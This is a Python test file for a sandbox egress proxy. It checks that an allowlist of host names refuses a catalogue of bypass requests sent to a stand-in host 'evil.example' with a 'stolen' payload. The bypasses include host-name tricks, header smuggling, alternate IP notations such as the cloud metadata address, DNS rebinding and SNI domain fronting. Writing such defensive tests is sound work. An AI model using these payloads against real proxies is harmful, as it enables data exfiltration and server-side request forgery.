"""Ways past a list of allowed names. Each reaches the wrong server through a careless proxy, and not through ours."""

from __future__ import annotations

import contextlib
import ssl
from collections.abc import Iterator

import pytest
from town import NEAR, PUBLIC, Careless, Town, a_door, a_town

from referee.adapters.sandbox.egress import Outside
from referee.domain.destination import Destination, destination

GOOD = "good.example.org"
ALLOWED = (destination(GOOD), destination(f"{GOOD}:80"))
PAYLOAD = b"stolen"


def tunnel(target: str, *headers: str, encoding: str = "utf-8") -> bytes:
    return "\r\n".join((f"CONNECT {target} HTTP/1.1", *headers, "", "")).encode(encoding)


def plain(url: str, *headers: str) -> bytes:
    return "\r\n".join((f"GET {url} HTTP/1.1", *headers, "", "")).encode()


OTHER_HOSTS = {
    "prefix": tunnel(f"evil{GOOD}:443"),
    "suffix": tunnel(f"{GOOD}.evil.example:443"),
    "subdomain": tunnel(f"evil.{GOOD}:443"),
    "user name": tunnel(f"{GOOD}:443@evil.example:443"),
    "user name in an address": plain(f"http://{GOOD}@evil.example/"),
    "NUL": tunnel(f"evil.example\0.{GOOD}:443"),
    "encoded NUL": tunnel(f"evil.example%00.{GOOD}:443"),
    "encoded at sign": tunnel(f"{GOOD}%40evil.example:443"),
    "fullwidth at sign": tunnel(f"{GOOD}\uff20evil.example:443"),
    "Host header": plain(f"http://{GOOD}/", "Host: evil.example"),
    "Host header of a tunnel": tunnel(f"{GOOD}:443", "Host: evil.example"),
    "second Host header": plain(f"http://{GOOD}/", "Host: evil.example", f"Host: {GOOD}"),
    "folded header": plain(f"http://{GOOD}/", "X: y", " z", "Host: evil.example"),
    "bare line feed": f"CONNECT {GOOD}:443 HTTP/1.1\nHost: evil.example\n\n".encode() + b"\r\n\r\n",
    "line feed in the target": f"CONNECT {GOOD}:443\nHost:evil.example HTTP/1.1\r\n\r\n".encode(),
}

ADDRESSES = {
    "dotted": "127.0.0.1", "decimal": "2130706433", "octal": "017700000001", "hexadecimal": "0x7f000001",
    "mixed": "0x7f.0.0.01", "short": "127.1", "zero": "0", "metadata": "169.254.169.254", "IPv6": "[::1]",
    "IPv4 in IPv6": "[::ffff:127.0.0.1]", "IPv4 in IPv6, hexadecimal": "[::ffff:7f00:1]", "bare IPv6": "::1",
    "translated": "[64:ff9b::7f00:1]", "public": "1.1.1.1", "final dot": "127.0.0.1.",
    "fullwidth": "\uff11\uff12\uff17.0.0.1", "ideographic dots": "127\u30020\u30020\u30021",
}  # fmt: skip


def hello(name: str) -> bytes:
    """The first message of TLS to a server of that name."""
    out, context = ssl.MemoryBIO(), ssl.create_default_context()
    with contextlib.suppress(ssl.SSLWantReadError):
        context.wrap_bio(ssl.MemoryBIO(), out, server_hostname=name).do_handshake()
    return out.read()


@pytest.fixture
def town() -> Iterator[Town]:
    with a_town() as made:
        yield made


def reached(town: Town) -> bool:
    """Whether anything came to a server that is not the good one."""
    return bool(town.evil.heard)


@pytest.mark.parametrize("attack", OTHER_HOSTS.values(), ids=OTHER_HOSTS)
def test_another_host(town: Town, attack: bytes) -> None:
    with a_door(Outside(network=town), *ALLOWED) as door:
        answer = door.say(attack, PAYLOAD)
    assert answer.startswith((b"HTTP/1.1 400", b"HTTP/1.1 403")), answer
    assert not reached(town)
    assert not town.connected
    assert not town.resolved, "a name that is refused must not even be looked up: that would tell an outsider"
    assert [c.times for c in door.contacts if c.refused] == [1]


@pytest.mark.parametrize("attack", OTHER_HOSTS.values(), ids=OTHER_HOSTS)
def test_another_host_through_a_careless_proxy(town: Town, attack: bytes) -> None:
    control = Careless(town, GOOD)
    control.open.say(attack, PAYLOAD)
    control.close()
    assert reached(town)


@pytest.mark.parametrize("address", ADDRESSES.values(), ids=ADDRESSES)
def test_an_address_in_any_notation(town: Town, address: str) -> None:
    # On the list, as if its author had managed to put it there: the request is refused all the same.
    listed = (Destination(host=address.strip("[]"), port=443), Destination(host=address, port=80))
    with a_door(Outside(network=town), *ALLOWED, *listed) as door:
        answers = [door.say(tunnel(f"{address}:443"), PAYLOAD), door.say(plain(f"http://{address}/"))]
    assert all(a.startswith(b"HTTP/1.1 400") for a in answers), answers
    assert not town.connected
    assert sum(c.times for c in door.contacts) == 2


@pytest.mark.parametrize("address", ADDRESSES.values(), ids=ADDRESSES)
def test_an_address_through_a_careless_proxy(town: Town, address: str) -> None:
    control = Careless(town, address)
    control.open.say(tunnel(f"{address}:443"), PAYLOAD)
    control.close()
    assert reached(town)


def test_the_right_name_gets_through_in_any_case(town: Town) -> None:
    """Over-blocking: what is allowed works, in either form."""
    with a_door(Outside(network=town), *ALLOWED) as door:
        through = door.say(tunnel("Good.Example.ORG:443"), hello(GOOD))
        document = door.say(plain(f"http://{GOOD}/a?b=c", "Host: good.example.org:80"))
    assert document.endswith(b"\r\n\r\nanswer")
    assert through.startswith(b"HTTP/1.1 200")
    assert through.endswith(b"answer")
    assert not reached(town)


def test_a_second_answer_of_the_resolver_changes_nothing(town: Town) -> None:
    """Rebinding: the name is public when it is checked, near when it is looked up again."""
    town.names[GOOD] = [PUBLIC, NEAR]
    with a_door(Outside(network=town), *ALLOWED) as door:
        door.say(plain(f"http://{GOOD}/"))
    assert town.connected == [PUBLIC]
    assert town.resolved == [GOOD]
    town.names[GOOD], town.connected = [PUBLIC, NEAR], []
    control = Careless(town, GOOD)
    control.open.say(plain(f"http://{GOOD}/"))
    control.close()
    assert town.connected == [NEAR]


@pytest.mark.parametrize("answer", (NEAR, "127.0.0.1", "10.0.0.1 93.184.216.34", "93.184.216.34 ::1", "fe80::1%eth0"))
def test_an_allowed_name_that_leads_near_us(town: Town, answer: str) -> None:
    """Whoever owns an allowed name must not be able to point it at this machine or its neighbours."""
    town.names[GOOD] = [answer]
    with a_door(Outside(network=town), *ALLOWED) as door:
        said = door.say(tunnel(f"{GOOD}:443"))
    assert said.startswith(b"HTTP/1.1 502")
    assert not town.connected
    assert "not of the public internet" in door.contacts[0].refused


@pytest.mark.parametrize("target", (f"{GOOD}:22", f"{GOOD}:80443", f"{GOOD}:0443", f"{GOOD}:+443", f"{GOOD}:", GOOD))
def test_another_port(town: Town, target: str) -> None:
    with a_door(Outside(network=town), *ALLOWED) as door:
        assert door.say(tunnel(target)).startswith((b"HTTP/1.1 400", b"HTTP/1.1 403"))
    assert not town.connected


def test_a_redirect_is_the_commands_to_follow_and_is_ruled_on(town: Town) -> None:
    town.good.answer = b"HTTP/1.1 302 Found\r\nLocation: http://evil.example/\r\nContent-Length: 0\r\n\r\n"
    with a_door(Outside(network=town), *ALLOWED) as door:
        first = door.say(plain(f"http://{GOOD}/"))
        second = door.say(plain("http://evil.example/"))
    assert b"Location: http://evil.example/" in first
    assert second.startswith(b"HTTP/1.1 403")
    assert not reached(town)


FRONTED = {
    "another server": (hello("evil.example"), "'evil.example'"),
    "no server": (hello("evil.example").replace(b"\0\x0cevil.example", b"\1\x0cevil.example"), "more than once"),
    "not TLS": (b"GET / HTTP/1.1\r\nHost: evil.example\r\n\r\n", "does not speak TLS"),
}


@pytest.mark.parametrize(("first", "said"), FRONTED.values(), ids=FRONTED)
def test_a_tunnel_that_is_meant_for_another_server(town: Town, first: bytes, said: str) -> None:
    """A listed host that fronts for others would hand the tunnel on by the name in its TLS."""
    with a_door(Outside(network=town), *ALLOWED) as door:
        assert not door.say(tunnel(f"{GOOD}:443"), first).endswith(b"answer")
    assert town.good.heard in ([], [b""])
    assert said in door.contacts[0].refused
    control = Careless(town, GOOD)
    assert control.open.say(tunnel(f"{GOOD}:443"), first).endswith(b"answer")
    control.close()
